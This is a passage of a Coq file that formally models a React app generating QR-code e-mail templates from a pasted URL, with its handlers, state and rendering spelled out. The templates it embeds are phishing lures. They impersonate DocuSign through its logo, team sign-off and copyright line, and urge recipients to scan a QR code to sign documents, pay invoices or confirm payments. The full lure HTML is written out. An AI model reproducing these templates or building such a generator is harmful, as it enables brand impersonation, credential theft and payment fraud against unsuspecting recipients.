(** * QRKODE-V2: the QR-code e-mail template generator

    A shallow embedding of the two page components of the repository,

    - [Part000]    the page with template kinds and logo sources
                   (src/unnamed/part_000), and
    - [PagesIndex] the single-template page (src/pages/index.tsx),

    followed by the properties of the generation, logo-resolution, copy and
    file-selection flows.

    React state is a record; a handler is a computation in a small
    state-and-exception monad over a [World] that also holds what the handler
    does to the browser (alerts, console, clipboard, file reads in flight,
    timers, calls to the QR library).  What the browser and the QR library
    answer is read from an [Env]. *)

From Stdlib Require Import String Ascii List ZArith Bool Arith Lia DecimalString.
Import ListNotations.
Open Scope string_scope.
Open Scope list_scope.

(** ** JavaScript values and coercions used by the pages *)

Module JS.

(** ToBoolean of a string: only the empty string is falsy. *)
Definition truthy (s : string) : bool := negb (s =? "")%string.

(** ToBoolean of a [string | null]; [None] is [null]. *)
Definition truthy_opt (v : option string) : bool :=
  match v with
  | Some s => truthy s
  | None => false
  end.

(** [a || b] on [string | null] operands. *)
Definition or_else (a b : option string) : option string :=
  if truthy_opt a then a else b.

(** ToString of an integral Number, as a template literal interpolates it. *)
Definition Number_toString (n : Z) : string :=
  NilZero.string_of_int (Z.to_int n).

(** The names that a plain object literal inherits from [Object.prototype];
    every one of them is bound to a function or an object, hence truthy, and
    none of those values has a [header] or a [cta] property. *)
Definition Object_prototype_keys : list string :=
  [ "constructor"; "hasOwnProperty"; "isPrototypeOf"; "propertyIsEnumerable";
    "toLocaleString"; "toString"; "valueOf"; "__proto__";
    "__defineGetter__"; "__defineSetter__"; "__lookupGetter__";
    "__lookupSetter__" ].

(** The double quote of the HTML text is written as an apostrophe in the
    literals of this file (neither page uses an apostrophe in its markup);
    [html_text] puts the double quotes back. *)
Definition dquote : ascii := ascii_of_nat 34.

Fixpoint html_text (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      String (if Ascii.eqb c "'"%char then dquote else c) (html_text s')
  end.

End JS.

(** ** The browser, the build step and the QR library *)

Record Blob := mkBlob { blob_type : string; blob_data : string }.

Record File := mkFile { file_name : string; file_blob : Blob }.

Record Response := mkResponse { response_body : option Blob }.

(** The options object handed to [QRCode.toDataURL]. *)
Record QRCodeToDataURLOptions := mkQROptions {
  width : Z;
  margin : Z;
  color_dark : string;
  color_light : string
}.

Definition Error := string.

Record Env := mkEnv {
  (** [fetch(url)]; [None] when the promise rejects. *)
  fetch : string -> option Response;
  (** [FileReader.readAsDataURL]; [None] when the read fails ([onerror]
      fires and [result] is [null]). *)
  FileReader_readAsDataURL : Blob -> option string;
  (** [QRCode.toDataURL(text, options)]; [inl e] when it rejects with [e]. *)
  QRCode_toDataURL : string -> QRCodeToDataURLOptions -> Error + string;
  (** [new Date().getFullYear()]. *)
  Date_getFullYear : Z;
  (** [navigator.clipboard.writeText]; [false] when the promise rejects. *)
  clipboard_writeText : string -> bool;
  (** [fs.readFile] of a file under [public/], already in base64. *)
  fs_readFile_base64 : string -> string
}.

(** [readBase64] of [getStaticProps], the same in both pages. *)
Definition readBase64 (env : Env) (fn : string) : string :=
  "data:image/png;base64," ++ fs_readFile_base64 env fn.

Inductive CopyStatus := idle | copied.

(** Calls that leave the page. *)
Inductive Call :=
| CallFetch (u : string)
| CallToDataURL (text : string) (options : QRCodeToDataURLOptions)
| CallWriteText (text : string).

(** ** Handlers as computations: state and exceptions *)

Module Page.

Section Monad.

(** The record of [useState] cells of the page. *)
Variable State : Type.

(** The page and what it has done to its surroundings. *)
Record World := mkWorld {
  state : State;
  alerts : list string;            (* messages shown by [alert], oldest first *)
  console : list Error;            (* [console.error] *)
  calls : list Call;               (* calls that left the page, oldest first *)
  clipboard : string;              (* the system clipboard *)
  readers : list File;             (* [FileReader]s still reading *)
  timers : nat                     (* pending [setTimeout] callbacks *)
}.

Definition initialWorld (s : State) (clip : string) : World :=
  mkWorld s [] [] [] clip [] 0.

Definition M (A : Type) : Type := World -> (Error + A) * World.

Definition ret {A} (a : A) : M A := fun w => (inr a, w).
Definition throw {A} (e : Error) : M A := fun w => (inl e, w).
Definition bind {A B} (m : M A) (k : A -> M B) : M B :=
  fun w => match m w with
           | (inr a, w') => k a w'
           | (inl e, w') => (inl e, w')
           end.
Definition try_catch {A} (m : M A) (h : Error -> M A) : M A :=
  fun w => match m w with
           | (inr a, w') => (inr a, w')
           | (inl e, w') => h e w'
           end.

(** A [useState] setter. *)
Definition update (f : State -> State) : M unit :=
  fun w => (inr tt, mkWorld (f (state w)) (alerts w) (console w) (calls w)
                            (clipboard w) (readers w) (timers w)).
Definition alert (msg : string) : M unit :=
  fun w => (inr tt, mkWorld (state w) (alerts w ++ [msg]) (console w) (calls w)
                            (clipboard w) (readers w) (timers w)).
Definition console_error (e : Error) : M unit :=
  fun w => (inr tt, mkWorld (state w) (alerts w) (console w ++ [e]) (calls w)
                            (clipboard w) (readers w) (timers w)).
Definition call (c : Call) : M unit :=
  fun w => (inr tt, mkWorld (state w) (alerts w) (console w) (calls w ++ [c])
                            (clipboard w) (readers w) (timers w)).
Definition set_clipboard (text : string) : M unit :=
  fun w => (inr tt, mkWorld (state w) (alerts w) (console w) (calls w)
                            text (readers w) (timers w)).
Definition set_readers (fs : list File) : M unit :=
  fun w => (inr tt, mkWorld (state w) (alerts w) (console w) (calls w)
                            (clipboard w) fs (timers w)).
Definition set_timers (n : nat) : M unit :=
  fun w => (inr tt, mkWorld (state w) (alerts w) (console w) (calls w)
                            (clipboard w) (readers w) n).

(** A promise that settles with [r]; it rejects with [e] when [r] is [None]. *)
Definition await {A} (r : option A) (e : Error) : M A :=
  match r with
  | Some a => ret a
  | None => throw e
  end.

(** [QRCode.toDataURL(text, options)], awaited. *)
Definition toDataURL (env : Env) (text : string)
  (options : QRCodeToDataURLOptions) : M string :=
  bind (call (CallToDataURL text options)) (fun _ =>
  match QRCode_toDataURL env text options with
  | inr uri => ret uri
  | inl e => throw e
  end).

End Monad.

Arguments mkWorld {State}.
Arguments state {State}.
Arguments alerts {State}.
Arguments console {State}.
Arguments calls {State}.
Arguments clipboard {State}.
Arguments readers {State}.
Arguments timers {State}.
Arguments initialWorld {State}.
Arguments ret {State A}.
Arguments throw {State A}.
Arguments bind {State A B}.
Arguments try_catch {State A}.
Arguments update {State}.
Arguments alert {State}.
Arguments console_error {State}.
Arguments call {State}.
Arguments set_clipboard {State}.
Arguments set_readers {State}.
Arguments set_timers {State}.
Arguments await {State A}.
Arguments toDataURL {State}.

Module Notations.
Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity).
Notation "m ;; k" := (bind m (fun _ => k))
  (at level 61, right associativity).
End Notations.

(** The fixed options of every call to the QR library. *)
Definition qrOptions : QRCodeToDataURLOptions :=
  {| width := 200; margin := 2; color_dark := "#000"; color_light := "#fff" |}.

End Page.

(** ** Scanning a rendered document *)

Module Scan.

(** [s] begins with [p]. *)
Fixpoint starts_with (p s : string) : bool :=
  match p, s with
  | EmptyString, _ => true
  | String _ _, EmptyString => false
  | String a p', String b s' => Ascii.eqb a b && starts_with p' s'
  end.

(** Number of positions of [s] at which [p] starts. *)
Fixpoint count_sub (p s : string) : nat :=
  match s with
  | EmptyString => 0
  | String _ s' => (if starts_with p s then 1 else 0) + count_sub p s'
  end.

(** [c] does not occur in [s]. *)
Fixpoint nochar (c : ascii) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String d s' => negb (Ascii.eqb c d) && nochar c s'
  end.

(** No end of [a] that is shorter than [p] begins [p]: an occurrence of [p]
    cannot straddle the end of [a]. *)
Fixpoint borderless (p a : string) : bool :=
  match a with
  | EmptyString => true
  | String _ a' =>
      (if Nat.ltb (String.length a) (String.length p) then negb (starts_with a p)
       else true)
      && borderless p a'
  end.

(** The characters that can stand in a substituted value without ending the
    double-quoted attribute around it, opening an element or spelling a
    placeholder: all but the double quote, [<], [$] and [{].  Base64 text
    and the usual media types have no other. *)
Definition attr_safe (c : ascii) : bool :=
  negb (existsb (Ascii.eqb c) ["<"%char; "$"%char; "{"%char; JS.dquote]).

Fixpoint all_chars (f : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => f c && all_chars f s'
  end.

(** The characters of a year as [ToString] prints it. *)
Definition digit_or_minus (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (Nat.leb 48 n && Nat.leb n 57) || Ascii.eqb c "-".

(** [v] holds none of the characters with which the scanned patterns
    begin. *)
Definition clean (v : string) : Prop :=
  nochar "<" v = true /\ nochar "$" v = true /\ nochar "{" v = true
  /\ nochar JS.dquote v = true.

(** Embeddable image data: a [data:] URI of such characters. *)
Definition embeddable (s : string) : bool :=
  starts_with "data:" s && all_chars attr_safe s.

Definition img_tag : string := "<img ".
Definition img_open : string :=
  Eval vm_compute in JS.html_text "<img src='".
Definition embedded_img_tag : string :=
  Eval vm_compute in JS.html_text "<img src='data:".

(** How an unfilled substitution would show in the text. *)
Definition placeholder_tokens : list string := ["${"; "{{"].

Definition img_count (h : string) : nat := count_sub img_tag h.
Definition embedded_img_count (h : string) : nat := count_sub embedded_img_tag h.

(** Occurrences of the closing quote of a [src] followed by [alt="a"]. *)
Definition alt_count (a h : string) : nat :=
  count_sub (String JS.dquote (" alt=" ++ String JS.dquote (a ++ String JS.dquote ""))) h.

(** The image element that shows [src] under the alternative text [alt],
    up to the end of its [alt] attribute. *)
Definition image (alt src : string) : string :=
  (img_open ++ src
   ++ String JS.dquote (" alt=" ++ String JS.dquote (alt ++ String JS.dquote "")))%string.

(** Elements that would make a document load something from elsewhere. *)
Definition external_tags : list string :=
  ["<link"; "<script"; "<iframe"; "<object"; "<embed"; "<a "].

(** What is asked of a rendered document whose QR image is [qr], shown under
    the alternative text [alt]: it holds that image, and holds one image of
    that description only; no placeholder token is left; every image is
    inlined as a [data:] URI; and nothing refers outside the document. *)
Definition valid_document (alt qr h : string) : Prop :=
  (exists pre post, h = (pre ++ image alt qr ++ post)%string)
  /\ alt_count alt h = 1
  /\ Forall (fun t => count_sub t h = 0) placeholder_tokens
  /\ embedded_img_count h = img_count h
  /\ Forall (fun t => count_sub t h = 0) external_tags.

(** A template literal: literal text alternating with substitutions. *)
Inductive Piece :=
| Lit (text : string)
| Hole (value : string).

Fixpoint assemble (ps : list Piece) : string :=
  match ps with
  | [] => ""
  | Lit a :: ps' => a ++ assemble ps'
  | Hole v :: ps' => v ++ assemble ps'
  end.

(** Occurrences of [p] in the literal text alone. *)
Fixpoint lit_count (p : string) (ps : list Piece) : nat :=
  match ps with
  | [] => 0
  | Lit a :: ps' => count_sub p a + lit_count p ps'
  | Hole _ :: ps' => lit_count p ps'
  end.

(** No occurrence of [p], which begins with [c], can touch a substitution:
    [c] is absent from every substituted value and [p] does not straddle the
    end of a literal. *)
Fixpoint pieces_ok (p : string) (c : ascii) (ps : list Piece) : Prop :=
  match ps with
  | [] => True
  | Lit a :: ps' => borderless p a = true /\ pieces_ok p c ps'
  | Hole v :: ps' => nochar c v = true /\ pieces_ok p c ps'
  end.

End Scan.

(** What the page relies on from its surroundings: reading a file or a
    fetched body as a data URL, and encoding a QR symbol, yield [data:] URIs,
    and the build step reads its images as base64 text. *)
Definition Env_embeds (env : Env) : Prop :=
  (forall b s, FileReader_readAsDataURL env b = Some s -> Scan.embeddable s = true)
  /\ (forall text o s, QRCode_toDataURL env text o = inr s -> Scan.embeddable s = true)
  /\ (forall fn, Scan.all_chars Scan.attr_safe (fs_readFile_base64 env fn) = true).

(** ** The page with template kinds and logo sources (src/unnamed/part_000) *)

Module Part000.

Import Page Page.Notations.

Record Props := mkProps { defaultLogoDataUri : string }.

Definition getStaticProps (env : Env) : Props :=
  {| defaultLogoDataUri := readBase64 env "docusign_logo.png" |}.

(** The [useState] cells of [Home]. *)
Record State := mkState {
  url : string;
  template : string;
  logoUrl : string;
  logoFile : option File;
  localLogoDataUri : option string;
  html : string;
  copyStatus : CopyStatus
}.

Definition initialState : State :=
  {| url := ""; template := "Document"; logoUrl := ""; logoFile := None;
     localLogoDataUri := Some ""; html := ""; copyStatus := idle |}.

Definition setUrl (v : string) (s : State) : State :=
  mkState v (template s) (logoUrl s) (logoFile s) (localLogoDataUri s) (html s) (copyStatus s).
Definition setTemplate (v : string) (s : State) : State :=
  mkState (url s) v (logoUrl s) (logoFile s) (localLogoDataUri s) (html s) (copyStatus s).
Definition setLogoUrl (v : string) (s : State) : State :=
  mkState (url s) (template s) v (logoFile s) (localLogoDataUri s) (html s) (copyStatus s).
Definition setLogoFile (v : option File) (s : State) : State :=
  mkState (url s) (template s) (logoUrl s) v (localLogoDataUri s) (html s) (copyStatus s).
Definition setLocalLogoDataUri (v : option string) (s : State) : State :=
  mkState (url s) (template s) (logoUrl s) (logoFile s) v (html s) (copyStatus s).
Definition setHtml (v : string) (s : State) : State :=
  mkState (url s) (template s) (logoUrl s) (logoFile s) (localLogoDataUri s) v (copyStatus s).
Definition setCopyStatus (v : CopyStatus) (s : State) : State :=
  mkState (url s) (template s) (logoUrl s) (logoFile s) (localLogoDataUri s) (html s) v.

Definition World := Page.World State.
Definition M (A : Type) : Type := Page.M State A.

Definition initialWorld (clip : string) : World := Page.initialWorld initialState clip.

(** *** [templateConfig] *)

Record TemplateText := mkText { header : string; cta : string }.

Definition Document : TemplateText :=
  {| header := "Your document is ready to review and sign";
     cta := "Scan the QR Code below to view or sign the shared document." |}.
Definition Contract : TemplateText :=
  {| header := "Your contract is ready to review and sign";
     cta := "Scan the QR Code below to view or sign the contract." |}.
Definition Invoice : TemplateText :=
  {| header := "Your invoice is ready to view and pay";
     cta := "Scan the QR Code below to view or pay the invoice." |}.
Definition Statement : TemplateText :=
  {| header := "Your statement is ready to view";
     cta := "Scan the QR Code below to view your statement." |}.
Definition Payment : TemplateText :=
  {| header := "Payment Notification: Your payment details are ready";
     cta := "Scan the QR Code below to review and confirm all invoices included in this payment." |}.

(** The own properties of the object literal, in source order. *)
Definition templateConfig : list (string * TemplateText) :=
  [ ("Document", Document); ("Contract", Contract); ("Invoice", Invoice);
    ("Statement", Statement); ("Payment", Payment) ].

(** What [templateConfig[key]] can evaluate to when it is not [undefined]:
    an entry of the literal, or a value inherited from [Object.prototype]. *)
Inductive ConfigValue :=
| Entry (t : TemplateText)
| Inherited (key : string).

Fixpoint own_property (key : string) (o : list (string * TemplateText))
  : option TemplateText :=
  match o with
  | [] => None
  | (k, v) :: o' => if (k =? key)%string then Some v else own_property key o'
  end.

(** [templateConfig[key]]: own properties first, then the prototype chain;
    [None] is [undefined]. *)
Definition templateConfig_get (key : string) : option ConfigValue :=
  match own_property key templateConfig with
  | Some t => Some (Entry t)
  | None =>
      if existsb (String.eqb key) JS.Object_prototype_keys
      then Some (Inherited key) else None
  end.

(** [templateConfig[template] || templateConfig.Document]: objects and
    functions are truthy, [undefined] is not. *)
Definition config (template : string) : ConfigValue :=
  match templateConfig_get template with
  | Some v => v
  | None => Entry Document
  end.

(** [`${config.header}`] and [`${config.cta}`]: a missing property reads as
    [undefined] and is interpolated as the text "undefined". *)
Definition config_header (c : ConfigValue) : string :=
  match c with
  | Entry t => header t
  | Inherited _ => "undefined"
  end.
Definition config_cta (c : ConfigValue) : string :=
  match c with
  | Entry t => cta t
  | Inherited _ => "undefined"
  end.

(** *** [buildEmailHtml] *)

Definition doc_head : string := Eval vm_compute in JS.html_text
"<!DOCTYPE html>
<html lang='en'>
<head>
  <meta charset='UTF-8'>
  <title>".

Definition doc_before_logo : string := Eval vm_compute in JS.html_text
"</title>
</head>
<body style='margin:0;padding:0;background-color:#f4f4f4;'>
  <center style='width:100%;background-color:#f4f4f4;'>
    <table role='presentation' border='0' cellpadding='0' cellspacing='0' style='width:600px;background-color:#ffffff;box-shadow:0 2px 8px rgba(0,0,0,0.1);overflow:hidden;margin:20px auto;'>
      ".

Definition doc_before_heading : string := Eval vm_compute in JS.html_text
"
      <tr>
        <td align='center' style='padding:30px;background-color:#005eb8;color:#ffffff;font-family:Arial,sans-serif;'>
          <h1 style='margin:0;font-size:24px;'>".

Definition doc_before_qr : string := Eval vm_compute in JS.html_text
"</h1>
        </td>
      </tr>
      <tr>
        <td align='center' style='padding:30px;'>
          <img src='".

Definition doc_before_cta : string := Eval vm_compute in JS.html_text
"' alt='QR Code' width='200' style='display:block;border:1px solid #ddd;border-radius:4px;'>
          <p style='font-family:Arial,sans-serif;font-size:20px;border-radius:4px;display:inline-block;margin:15px 0 0;'>
            ".

Definition doc_before_year : string := Eval vm_compute in JS.html_text
"
          </p>
        </td>
      </tr>
      <tr>
        <td style='padding:20px;font-family:Arial,sans-serif;font-size:14px;color:#333;line-height:1.5;'>
          If you have any questions, reply to this email or contact our support team.
        </td>
      </tr>
      <tr>
        <td align='center' style='padding:20px;font-family:Arial,sans-serif;font-size:12px;color:#777;'>
          &copy; ".

Definition doc_tail : string := Eval vm_compute in JS.html_text
" Company. All rights reserved.
        </td>
      </tr>
    </table>
  </center>
</body>
</html>".

Definition logo_open : string := Eval vm_compute in JS.html_text
"<tr><td align='center' style='padding:20px 0;'><img src='".

Definition logo_close : string := Eval vm_compute in JS.html_text
"' alt='Company Logo' width='120' style='display:block;margin-bottom:10px;'></td></tr>".

(** The conditional logo row of the template. *)
Definition logo_block (logoToUse : option string) : string :=
  match logoToUse with
  | Some l => if JS.truthy l then logo_open ++ l ++ logo_close else ""
  | None => ""
  end.

(** The template literal with its three kinds of hole filled: the texts of
    the template kind, the logo row, the QR image and the year. *)
Definition document (c : ConfigValue) (year : Z) (qrDataUri : string)
  (logoToUse : option string) : string :=
  doc_head ++ config_header c ++ doc_before_logo ++ logo_block logoToUse
  ++ doc_before_heading ++ config_header c ++ doc_before_qr ++ qrDataUri
  ++ doc_before_cta ++ config_cta c ++ doc_before_year
  ++ JS.Number_toString year ++ doc_tail.

(** [buildEmailHtml] closes over [template] and reads the clock. *)
Definition buildEmailHtml (env : Env) (template : string)
  (qrDataUri : string) (logoToUse : option string) : string :=
  document (config template) (Date_getFullYear env) qrDataUri logoToUse.

(** *** The handlers *)

Section Handlers.

Variable env : Env.
Variable props : Props.

Definition fetchLogoDataUri (u : string) : M string :=
  call (CallFetch u) ;;
  res <- await (fetch env u) "TypeError: Failed to fetch" ;;
  blob <- await (response_body res) "TypeError: Failed to read the body" ;;
  await (FileReader_readAsDataURL env blob) "ProgressEvent: error".

(** [e.target.files?.[0]] *)
Definition first_file (files : option (list File)) : option File :=
  match files with
  | Some (f :: _) => Some f
  | _ => None
  end.

Definition handleFileChange (files : option (list File)) : M unit :=
  match first_file files with
  | None => ret tt
  | Some file =>
      update (setLogoFile (Some file)) ;;
      update (setLogoUrl "") ;;
      (* reader.onloadend = ...; reader.readAsDataURL(file) *)
      fun w => set_readers (readers w ++ [file]) w
  end.

Fixpoint remove_nth {A} (i : nat) (l : list A) : list A :=
  match l, i with
  | [], _ => []
  | _ :: l', 0 => l'
  | x :: l', S i' => x :: remove_nth i' l'
  end.

(** [reader.onloadend] of the [i]-th read in flight:
    [setLocalLogoDataUri(reader.result as string)]. *)
Definition reader_onloadend (i : nat) : M unit :=
  fun w => match nth_error (readers w) i with
           | None => ret tt w
           | Some file =>
               (set_readers (remove_nth i (readers w)) ;;
                update (setLocalLogoDataUri
                          (FileReader_readAsDataURL env (file_blob file)))) w
           end.

(** [onChange] of the logo URL field. *)
Definition logoUrl_onChange (value : string) : M unit :=
  update (setLogoUrl value) ;;
  update (setLogoFile None) ;;
  update (setLocalLogoDataUri (Some "")).

(** The warning of the inner [catch]. *)
Definition fetch_warning : string :=
  "Failed to fetch provided logo URL. Falling back to defaults.".

(** The value of [customLogoDataUri] after the first block of the [try]. *)
Definition customLogoDataUri (s : State) : M (option string) :=
  if JS.truthy_opt (localLogoDataUri s) then ret (localLogoDataUri s)
  else if JS.truthy (logoUrl s) then
    try_catch
      (v <- fetchLogoDataUri (logoUrl s) ;; ret (Some v))
      (fun _ => alert fetch_warning ;; ret None)
  else ret None.

(** [customLogoDataUri || (template === 'Document' ? defaultLogoDataUri : null)] *)
Definition logoToUse (s : State) (custom : option string) : option string :=
  JS.or_else custom
    (if (template s =? "Document")%string
     then Some (defaultLogoDataUri props) else None).

(** The handler runs with the state of the render it was created in, [s]. *)
Definition handleGenerate : M unit :=
  fun w0 =>
  let s := state w0 in
  (if negb (JS.truthy (url s)) then alert "Please paste a URL first."
   else
     try_catch
       (custom <- customLogoDataUri s ;;
        qrDataUri <- toDataURL env (url s) qrOptions ;;
        update (setHtml (buildEmailHtml env (template s) qrDataUri
                           (logoToUse s custom))) ;;
        update (setCopyStatus idle))
       (fun e =>
          console_error e ;;
          alert "Failed to generate QR code.")) w0.

(** [setTimeout(() => setCopyStatus('idle'), 2000)] coming due. *)
Definition timer_fires : M unit :=
  fun w => match timers w with
           | 0 => ret tt w
           | S n => (set_timers n ;; update (setCopyStatus idle)) w
           end.

(** A rejection of [writeText] is not handled: nothing else happens. *)
Definition handleCopy : M unit :=
  fun w0 =>
  let s := state w0 in
  (call (CallWriteText (html s)) ;;
   if clipboard_writeText env (html s) then
     set_clipboard (html s) ;;
     update (setCopyStatus copied) ;;
     fun w => set_timers (S (timers w)) w
   else ret tt) w0.

(** *** The page as a transition system *)

Inductive Event :=
| UrlInput (value : string)
| TemplateSelect (value : string)
| FileInput (files : option (list File))
| LogoUrlInput (value : string)
| GenerateClick
| CopyClick
| ReaderLoadEnd (i : nat)
| TimerFires.

(** The options of the template [select]. *)
Definition template_options : list string :=
  ["Document"; "Contract"; "Invoice"; "Statement"; "Payment"].

(** What can happen in a world: the copy button is rendered only when
    [html] is truthy, the [select] offers its options only, and only reads
    and timers that exist complete. *)
Definition enabled (ev : Event) (w : World) : bool :=
  match ev with
  | TemplateSelect v => existsb (String.eqb v) template_options
  | CopyClick => JS.truthy (html (state w))
  | ReaderLoadEnd i => Nat.ltb i (List.length (readers w))
  | TimerFires => Nat.ltb 0 (timers w)
  | _ => true
  end.

Definition handler (ev : Event) : M unit :=
  match ev with
  | UrlInput v => update (setUrl v)
  | TemplateSelect v => update (setTemplate v)
  | FileInput files => handleFileChange files
  | LogoUrlInput v => logoUrl_onChange v
  | GenerateClick => handleGenerate
  | CopyClick => handleCopy
  | ReaderLoadEnd i => reader_onloadend i
  | TimerFires => timer_fires
  end.

Definition step (ev : Event) (w : World) : World := snd (handler ev w).

Definition run (evs : list Event) (w : World) : World :=
  fold_left (fun w ev => step ev w) evs w.

Inductive reachable : World -> Prop :=
| reachable_init : forall clip, reachable (initialWorld clip)
| reachable_step : forall w ev,
    reachable w -> enabled ev w = true -> reachable (step ev w).

End Handlers.

(** Which logo source the state selects. *)
Definition local_source_active (s : State) : bool :=
  match logoFile s with Some _ => true | None => false end
  || JS.truthy_opt (localLogoDataUri s).
Definition remote_source_active (s : State) : bool := JS.truthy (logoUrl s).

(** The local logo, when there is one, is a data URL. *)
Definition local_ok (s : State) : Prop :=
  JS.truthy_opt (localLogoDataUri s) = true ->
  exists l, localLogoDataUri s = Some l /\ Scan.embeddable l = true.

End Part000.

(** ** The single-template page (src/pages/index.tsx) *)

Module PagesIndex.

Import Page Page.Notations.

Record Props := mkProps { logoDataUri : string; iconDataUri : string }.

Definition getStaticProps (env : Env) : Props :=
  {| logoDataUri := readBase64 env "docusign_logo.png";
     iconDataUri := readBase64 env "doc_icon.png" |}.

(** The [useState] cells of [Home]. *)
Record State := mkState {
  url : string;
  html : string;
  copyStatus : CopyStatus
}.

Definition initialState : State :=
  {| url := ""; html := ""; copyStatus := idle |}.

Definition setUrl (v : string) (s : State) : State :=
  mkState v (html s) (copyStatus s).
Definition setHtml (v : string) (s : State) : State :=
  mkState (url s) v (copyStatus s).
Definition setCopyStatus (v : CopyStatus) (s : State) : State :=
  mkState (url s) (html s) v.

Definition World := Page.World State.
Definition M (A : Type) : Type := Page.M State A.

Definition initialWorld (clip : string) : World := Page.initialWorld initialState clip.

(** *** [buildEmailHtml] *)

Definition doc_before_logo : string := Eval vm_compute in JS.html_text
"<!DOCTYPE html>
<html lang='en'>
<head>
  <meta charset='UTF-8'>
  <title>Document Ready to Sign</title>
</head>
<body style='margin:0;padding:0;background-color:#f4f4f4;'>
  <center style='width:100%;background-color:#f4f4f4;'>
    <table role='presentation' border='0' cellpadding='0' cellspacing='0' width='600' style='background-color:#ffffff;border-radius:8px;box-shadow:0 2px 8px rgba(0,0,0,0.1);overflow:hidden;margin:20px auto;'>
      <tr>
        <td align='center' style='padding:20px 0;'>
          <img src='".

Definition doc_before_icon : string := Eval vm_compute in JS.html_text
"' alt='DocuSign' width='120' style='display:block;margin-bottom:10px;'>
          <img src='".

Definition doc_before_qr : string := Eval vm_compute in JS.html_text
"' alt='' width='48' style='display:block;'>
        </td>
      </tr>
      <tr>
        <td align='center' style='padding:30px;background-color:#005eb8;color:#ffffff;font-family:Arial,sans-serif;'>
          <h1 style='margin:0;font-size:24px;'>Your document is ready to review and sign</h1>
        </td>
      </tr>
      <tr>
        <td align='center' style='padding:30px;'>
          <img src='".

Definition doc_before_year : string := Eval vm_compute in JS.html_text
"' alt='Scan to review document' width='200' style='display:block;border:1px solid #ddd;border-radius:4px;'>
          <!-- Bold blue instruction matching hero style -->
          <p style='font-family:Arial,sans-serif;font-size:18px;font-weight:bold;color:#ffffff;background-color:#005eb8;padding:10px 20px;border-radius:4px;display:inline-block;margin:15px 0 0;'>
            Scan the QR Code to view or sign the shared document.
          </p>
        </td>
      </tr>
      <tr>
        <td style='padding:20px;font-family:Arial,sans-serif;font-size:14px;color:#333;line-height:1.5;'>
          <p>All parties have been completed.</p>
          <p>
            To review and electronically sign the pending document, please scan the QR code above.
            When DocuSign is applied, there is no requirement for a paper copy to be produced.
          </p>
          <p>Thank you,</p>
          <p><strong>The DocuSign Team</strong></p>
        </td>
      </tr>
      <tr>
        <td align='center' style='padding:20px;font-family:Arial,sans-serif;font-size:12px;color:#777;'>
          &copy; ".

Definition doc_tail : string := Eval vm_compute in JS.html_text
" DocuSign, Inc. All rights reserved.
        </td>
      </tr>
    </table>
  </center>
</body>
</html>".

Section Handlers.

Variable env : Env.
Variable props : Props.

Definition buildEmailHtml (qrDataUri : string) : string :=
  doc_before_logo ++ logoDataUri props ++ doc_before_icon ++ iconDataUri props
  ++ doc_before_qr ++ qrDataUri ++ doc_before_year
  ++ JS.Number_toString (Date_getFullYear env) ++ doc_tail.

Definition handleGenerate : M unit :=
  fun w0 =>
  let s := state w0 in
  (if negb (JS.truthy (url s)) then alert "Please paste a URL first."
   else
     try_catch
       (qrDataUri <- toDataURL env (url s) qrOptions ;;
        update (setHtml (buildEmailHtml qrDataUri)) ;;
        update (setCopyStatus idle))
       (fun e =>
          console_error e ;;
          alert "Failed to generate QR code.")) w0.

(** [setTimeout(() => setCopyStatus('idle'), 2000)] coming due. *)
Definition timer_fires : M unit :=
  fun w => match timers w with
           | 0 => ret tt w
           | S n => (set_timers n ;; update (setCopyStatus idle)) w
           end.

(** A rejection of [writeText] is not handled: nothing else happens. *)
Definition handleCopy : M unit :=
  fun w0 =>
  let s := state w0 in
  (call (CallWriteText (html s)) ;;
   if clipboard_writeText env (html s) then
     set_clipboard (html s) ;;
     update (setCopyStatus copied) ;;
     fun w => set_timers (S (timers w)) w
   else ret tt) w0.

End Handlers.

End PagesIndex.

(** ** Sample surroundings and inputs *)

Module Sample.

Definition png : string := "data:image/png;base64,iVBORw0KGgo=".
Definition qr_png : string :=
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAMgAAADICAYAAACtWK6e".
Definition logo_blob : Blob := mkBlob "image/png" "PNG".
Definition logo_file : File := mkFile "logo.png" logo_blob.

(** The largest text, in bytes, that fits a QR symbol. *)
Definition capacity : nat := 2953.

Definition too_big : Error :=
  "Error: The amount of data is too big to be stored in a QR Code".

(** A browser in which one logo URL answers and every other fetch fails,
    file reads succeed, and the QR library rejects texts beyond capacity. *)
Definition env : Env :=
  mkEnv
    (fun u => if (u =? "https://example.com/logo.png")%string
              then Some (mkResponse (Some logo_blob)) else None)
    (fun _ => Some png)
    (fun text _ => if Nat.leb (String.length text) capacity
                   then inr qr_png else inl too_big)
    2026
    (fun _ => true)
    (fun _ => "iVBORw0KGgo=").

Fixpoint padding (n : nat) : string :=
  match n with
  | 0 => ""
  | S n' => String "a" (padding n')
  end.

Definition doc_url : string := "https://example.com/doc/42".
Definition long_url : string := "https://example.com/?q=" ++ padding 3000.
Definition dead_logo_url : string := "https://unreachable.invalid/logo.png".
Definition live_logo_url : string := "https://example.com/logo.png".

Definition props : Part000.Props := Part000.getStaticProps env.
Definition props_index : PagesIndex.Props := PagesIndex.getStaticProps env.

(** The page after a sequence of events. *)
Definition after (evs : list Part000.Event) : Part000.World :=
  Part000.run env props evs (Part000.initialWorld "").

(** The single-template page with [u] typed into the URL field. *)
Definition index_with_url (u : string) : PagesIndex.World :=
  Page.mkWorld (PagesIndex.setUrl u PagesIndex.initialState) [] [] [] "" [] 0.

End Sample.

(** ** What the pages show, and further surroundings *)

Module View.

(** The copy button: its label and its background colour. *)
Record Button := mkButton { label : string; backgroundColor : string }.

(** [part_000]: the button and the preview are rendered under
    [{html && (...)}]; label and colour follow [copyStatus]. *)
Definition copy_button (s : Part000.State) : option Button :=
  if JS.truthy (Part000.html s) then
    Some (mkButton
            (match Part000.copyStatus s with
             | copied => "Copied!"
             | idle => "Copy HTML"
             end)
            (match Part000.copyStatus s with
             | copied => "#28a745"
             | idle => "#005eb8"
             end))
  else None.

(** The live preview: [dangerouslySetInnerHTML={{ __html: html }}]. *)
Definition preview (s : Part000.State) : option string :=
  if JS.truthy (Part000.html s) then Some (Part000.html s) else None.

End View.

(** The worlds the page reaches when the logo URL field is edited only while
    no file read is in flight. *)
Inductive reachable_settled (env : Env) (props : Part000.Props)
  : Part000.World -> Prop :=
